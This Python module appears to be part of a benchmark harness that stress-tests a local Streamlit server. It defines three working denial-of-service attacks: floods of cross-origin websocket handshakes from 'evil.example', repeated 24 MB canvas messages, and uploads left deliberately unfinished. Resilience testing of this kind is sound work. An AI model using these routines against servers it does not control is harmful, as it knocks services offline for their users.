"""Visitors who mean harm to a running server, over the network alone: handshakes, messages and uploads."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from websockets.exceptions import WebSocketException

from benchmarks.session import session

SOURCE = "127.0.0.2"
"""The address that all attackers come from."""
CANVAS = "streamlit-drawable-canvas.streamlit_drawable_canvas"
CANVAS_STATE = '{"drawing": {"data": "", "raw": {"objects": [' + "{}," * 8_000_000 + "{}]}}}"
"""24 MB."""
UPLOAD_BYTES = 80_000_000
SENT_BYTES = 79_000_000
AT_ONCE = 8
XSRF = "_streamlit_xsrf"
MEANWHILE = (OSError, WebSocketException, TimeoutError, asyncio.IncompleteReadError)

Attack = Callable[[str], Awaitable[None]]


async def foreign_handshakes(url: str) -> None:
    """Pages of another site ask for websockets, one after the other, eight at once."""

    async def shake() -> None:
        while True:
            with contextlib.suppress(*MEANWHILE):
                await handshake(url, "http://evil.example")

    await asyncio.gather(*(shake() for _ in range(AT_ONCE)))


async def canvas_messages(url: str) -> None:
    """Canvases of 24 MB, each of a visitor who was never here before and leaves at once."""
    while True:
        with contextlib.suppress(*MEANWHILE):
            async with session(url, f"canvas-{secrets.token_hex(8)}", SOURCE) as browser:
                await browser.open("draw")
                await browser.set_json(CANVAS, CANVAS_STATE)


async def unfinished_uploads(url: str) -> None:
    """Uploads whose end does not come, as many as the server takes, from several tabs."""

    async def hold() -> None:
        while True:
            with contextlib.suppress(*MEANWHILE):
                async with session(url, f"upload-{secrets.token_hex(8)}", SOURCE) as browser:
                    await browser.open("runs")
                    await upload(url, browser.id, UPLOAD_BYTES, SENT_BYTES, SOURCE)
            await asyncio.sleep(0.2)

    await asyncio.gather(*(hold() for _ in range(AT_ONCE)))


async def handshake(url: str, origin: str) -> int:
    """Asks for a websocket as a browser does.

    Returns:
        The answer's status.
    """
    parts = urlsplit(url)
    lines = [
        "GET /_stcore/stream HTTP/1.1",
        *(f"Host: {parts.netloc}", f"Origin: {origin}", "Connection: Upgrade", "Upgrade: websocket"),
        *("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
    ]
    return await _ask(url, "\r\n".join(lines), b"", SOURCE)


async def upload(url: str, tab: str, size: int, sent: int, source: str) -> int:
    """Uploads a file to a tab, or only its beginning, and then waits for an answer.

    Args:
        tab: Streamlit's id of the session.
        size: Bytes of the file.
        sent: Bytes that are sent.
        source: The address that it comes from.

    Returns:
        The answer's status.
    """
    token = secrets.token_hex(16)
    mark = secrets.token_hex(8)
    head = f'--{mark}\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\n\r\n'.encode()
    tail = f"\r\n--{mark}--\r\n".encode()
    lines = [
        f"PUT /_stcore/upload_file/{tab}/{secrets.token_hex(8)} HTTP/1.1",
        *(f"Host: {urlsplit(url).netloc}", f"Cookie: {XSRF}={token}", f"X-Xsrftoken: {token}"),
        *(f"Content-Type: multipart/form-data; boundary={mark}", f"Content-Length: {len(head) + size + len(tail)}"),
    ]
    body = head + bytes(min(sent, size)) + (tail if sent >= size else b"")
    return await _ask(url, "\r\n".join(lines), body, source)


async def _ask(url: str, head: str, body: bytes, source: str) -> int:
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port, local_addr=(source, 0))
    try:
        writer.write(f"{head}\r\n\r\n".encode() + body)
        line = await reader.readuntil(b"\r\n")
        return int(line.split()[1])
    finally:
        writer.close()


ATTACKS: dict[str, Attack] = {
    "foreign handshakes": foreign_handshakes,
    "canvas messages": canvas_messages,
    "unfinished uploads": unfinished_uploads,
}


def run_attack(name: str, url: str) -> None:
    """Attacks a server until its process is ended."""
    asyncio.run(ATTACKS[name](url))  # type: ignore[arg-type]
